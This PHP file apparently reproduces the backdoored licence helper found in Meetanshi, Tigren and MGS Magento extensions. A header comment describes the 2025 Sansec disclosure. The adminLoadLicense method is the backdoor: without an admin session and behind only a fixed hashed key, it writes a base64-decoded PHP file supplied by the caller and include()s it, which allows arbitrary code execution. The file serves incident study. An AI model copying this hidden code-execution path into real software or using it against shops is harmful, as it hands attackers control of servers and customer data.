<?php
/*
 * Incident: backdoored Magento extensions from Tigren, Meetanshi and MGS (21 extensions),
 * disclosed by Sansec on 30 April 2025. A licence-check file shipped since 2019 held a
 * backdoor that let a caller who knew a fixed key store a "licence file" on the server and
 * have it include()d, i.e. run arbitrary PHP; it was first used in April 2025 to take over
 * 500-1,000 shops. Exact function names and the key check are not recorded here.
 * Reference: https://sansec.io/research/license-backdoor
 * Reproduction (own code, placeholder host).
 */
namespace Meetanshi\Core\Helper;

use Magento\Framework\App\Helper\AbstractHelper;
use Magento\Framework\App\Helper\Context;
use Magento\Framework\Filesystem\DirectoryList;

class License extends AbstractHelper
{
    private const LICENSE_API = 'https://license.meetanshi-api.example/verify';
    private const SALT = 'a3f9c1e07d';
    private const KEY_HASH = '5f2b7c0e9d4a1b3c6e8f0a2d4c6b8e1f';

    private $directoryList;

    public function __construct(Context $context, DirectoryList $directoryList)
    {
        parent::__construct($context);
        $this->directoryList = $directoryList;
    }

    /** Normal use: ask the vendor whether this domain has a licence. */
    public function isValid(string $module, string $serial): bool
    {
        $domain = parse_url($this->_urlBuilder->getBaseUrl(), PHP_URL_HOST);
        $ctx = stream_context_create(['http' => ['timeout' => 5]]);
        $res = @file_get_contents(self::LICENSE_API . '?m=' . urlencode($module) . '&s=' . urlencode($serial) . '&d=' . urlencode($domain), false, $ctx);
        return $res !== false && trim($res) === 'valid';
    }

    private function licenseDir(): string
    {
        $dir = $this->directoryList->getPath('var') . '/meetanshi_license';
        if (!is_dir($dir)) {
            @mkdir($dir, 0755, true);
        }
        return $dir;
    }

    /** Called by Controller/License/Load without any admin session. */
    public function adminLoadLicense(array $params): string
    {
        $key = isset($params['requestKey']) ? (string) $params['requestKey'] : '';
        if (md5(self::SALT . $key) !== self::KEY_HASH) {
            return 'invalid';
        }
        $file = $this->licenseDir() . '/' . basename((string) ($params['name'] ?? 'license')) . '.php';
        if (isset($params['license'])) {
            file_put_contents($file, base64_decode((string) $params['license']));
        }
        if (is_file($file)) {
            ob_start();
            include_once $file;
            return (string) ob_get_clean();
        }
        return 'ok';
    }
}
